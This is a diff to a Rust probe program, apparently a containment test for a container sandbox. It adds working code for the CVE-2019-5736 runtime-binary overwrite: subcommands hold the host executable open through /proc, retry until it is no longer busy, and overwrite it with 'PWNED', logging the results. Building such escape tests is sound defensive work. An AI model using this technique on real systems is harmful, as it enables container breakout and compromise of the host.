@@ -27,6 +27,7 @@ fn errno_name(e: i32) -> String {
         (19, "ENODEV"),
         (22, "EINVAL"),
         (25, "ENOTTY"),
+        (26, "ETXTBSY"),
         (30, "EROFS"),
         (38, "ENOSYS"),
         (126, "ENOKEY"),
@@ -43,6 +44,38 @@ fn answer(r: i64) -> String {
         "ok".into()
     } else {
         errno_name(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
+    }
+}
+
+/// Appends one line to the log file `path`.
+fn log(path: &str, line: &str) {
+    use std::io::Write;
+    let mut f = std::fs::OpenOptions::new().create(true).append(true).open(path).unwrap();
+    writeln!(f, "{line}").unwrap();
+}
+
+/// The write of CVE-2019-5736: opens `/proc/self/fd/FD` (a file held read-only) for writing,
+/// retrying while it is busy (ETXTBSY) for `secs`, and writes over its first bytes. Logs
+/// `exe=<what the fd names> open=<answer> write=<answer>`.
+fn overwrite(fd: i64, secs: u64, log_path: &str) {
+    let path = format!("/proc/self/fd/{fd}");
+    let exe = std::fs::read_link(&path).map(|p| p.display().to_string()).unwrap_or_default();
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    loop {
+        // SAFETY: a NUL-terminated path; O_WRONLY.
+        let w = unsafe { syscall(2, c(&path).as_ptr(), 1i64) };
+        if w >= 0 {
+            // SAFETY: writes 5 bytes from a static buffer.
+            let r = unsafe { syscall(1, w, b"PWNED".as_ptr(), 5i64) };
+            log(log_path, &format!("exe={exe} open=ok write={}", answer(r)));
+            return;
+        }
+        let e = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
+        if e != 26 || std::time::Instant::now() > deadline {
+            log(log_path, &format!("exe={exe} open={}", errno_name(e)));
+            return;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
     }
 }
 
@@ -114,6 +147,58 @@ fn main() {
                 let seen = std::path::Path::new(&arg(1)).exists();
                 println!("{}", if seen { "escaped" } else { "contained" });
                 return;
+            }
+            "hold-exe" => {
+                // Run as the ELF interpreter of a re-run nsbox (the image's ld.so): hold
+                // /proc/self/exe open, start WRITER (this probe) with it, which overwrites the
+                // file once nothing executes it. `wait`: stay until the writer is done.
+                // hold-exe LOG WRITER SECS [wait]
+                let fd = syscall(2, c("/proc/self/exe").as_ptr(), 0i64);
+                if fd < 0 {
+                    log(&arg(1), &format!("hold-exe open={}", answer(fd)));
+                    return;
+                }
+                let mut writer = std::process::Command::new(arg(2));
+                writer.args(["write-fd", &fd.to_string(), &arg(3), &arg(1)]);
+                writer.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null());
+                writer.stderr(std::process::Stdio::null());
+                let mut child = writer.spawn().unwrap();
+                if arg(4) == "wait" {
+                    child.wait().unwrap();
+                }
+                std::process::exit(0);
+            }
+            "write-fd" => {
+                overwrite(arg(1).parse().unwrap(), arg(2).parse().unwrap(), &arg(3));
+                return;
+            }
+            "watch-exe" => {
+                // Waits for a process named COMM, holds its /proc/PID/exe open, then
+                // overwrites that file once nothing executes it. watch-exe COMM SECS LOG
+                let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+                loop {
+                    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+                        let dir = entry.path();
+                        let comm = std::fs::read_to_string(dir.join("comm")).unwrap_or_default();
+                        if comm.trim_end() != arg(1) {
+                            continue;
+                        }
+                        let exe = c(&dir.join("exe").display().to_string());
+                        let fd = syscall(2, exe.as_ptr(), 0i64);
+                        if fd < 0 {
+                            log(&arg(3), &format!("exe open={}", answer(fd)));
+                            return;
+                        }
+                        log(&arg(3), "held");
+                        overwrite(fd, arg(2).parse().unwrap(), &arg(3));
+                        return;
+                    }
+                    if std::time::Instant::now() > deadline {
+                        log(&arg(3), "never saw it");
+                        return;
+                    }
+                    std::thread::sleep(std::time::Duration::from_millis(5));
+                }
             }
             "ids" => {
                 let status = std::fs::read_to_string("/proc/self/status").unwrap();
